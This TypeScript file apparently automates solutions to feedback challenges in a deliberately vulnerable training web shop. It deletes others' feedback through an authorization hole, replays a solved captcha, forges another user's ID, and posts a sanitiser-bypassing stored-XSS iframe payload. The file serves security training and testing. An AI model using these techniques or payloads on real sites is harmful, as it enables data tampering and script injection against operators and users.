import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus, registerAndLogIn } from '../../testing/attack-steps'
import { informTheShop, postFeedback, solvedCaptcha } from '../../testing/feedback-posts'

/** The sanitiser removes `<script>Foo</script>` once, and the two halves around it make the iframe. */
export const MASKED_IFRAME = '<<script>Foo</script>iframe src="javascript:alert(`xss`)">'
/** How many posts one solved captcha buys when the shop never retires it. */
export const CAPTCHA_REPLAYS = 10

/** What a player finds, as they would tell the shop. */
export const FINDINGS = {
  weirdCryptoChallenge: 'Your coupon codes are z85 and your ids hashids: encodings, not encryption.',
  typosquattingNpmChallenge: 'The old package.json.bak depends on epilogue-js, an impostor of epilogue.',
  knownVulnerableComponentChallenge: 'You use sanitize-html in version 1.4.2, which lets masked tags through.',
  dlpPastebinDataLeakChallenge: 'The leaked Rippertuer Special Juice recipe contains Hueteroneel and Eurogium Edule.',
} as const

const informOf = (finding: string) => (target: AttackTarget) => informTheShop(target, finding)

/** Every feedback the shop lists with the given rating. */
async function feedbackRated(target: AttackTarget, rating: number): Promise<{ id: number }[]> {
  const list = expectStatus(await request(target).get('/api/Feedbacks'), 200)
  return (list.body.data as { id: number; rating: number }[]).filter((entry) => entry.rating === rating)
}

export const feedbackAttacks = {
  // any customer may delete anyone's feedback through the API: remove every five-star one
  feedbackChallenge: async (target) => {
    const { bearer } = await registerAndLogIn(target)
    for (const { id } of await feedbackRated(target, 5)) expectStatus(await request(target).delete(`/api/Feedbacks/${id}`).set('Authorization', bearer), 200)
  },
  // the shop never retires a solved captcha: send the same answer again and again
  captchaBypassChallenge: async (target) => {
    const captcha = await solvedCaptcha(target)
    for (let post = 1; post <= CAPTCHA_REPLAYS; post++) {
      expectStatus(await request(target).post('/api/Feedbacks').send({ ...captcha, comment: `bot post ${post}`, rating: 3 }), 201)
    }
  },
  // the API takes the UserId from the body, not from the session
  forgedFeedbackChallenge: async (target) => {
    const { token, id } = await registerAndLogIn(target)
    return expectStatus(await postFeedback(target, { comment: 'Signed by someone else', rating: 2, UserId: id === 1 ? 2 : 1 }, token), 201)
  },
  persistedXssFeedbackChallenge: async (target) => expectStatus(await postFeedback(target, { comment: MASKED_IFRAME, rating: 1 }), 201),
  // the form's stars start at one, the API accepts zero
  zeroStarsChallenge: async (target) => expectStatus(await postFeedback(target, { comment: 'meh', rating: 0 }), 201),
  weirdCryptoChallenge: informOf(FINDINGS.weirdCryptoChallenge),
  typosquattingNpmChallenge: informOf(FINDINGS.typosquattingNpmChallenge),
  knownVulnerableComponentChallenge: informOf(FINDINGS.knownVulnerableComponentChallenge),
  dlpPastebinDataLeakChallenge: informOf(FINDINGS.dlpPastebinDataLeakChallenge),
} satisfies Attacks
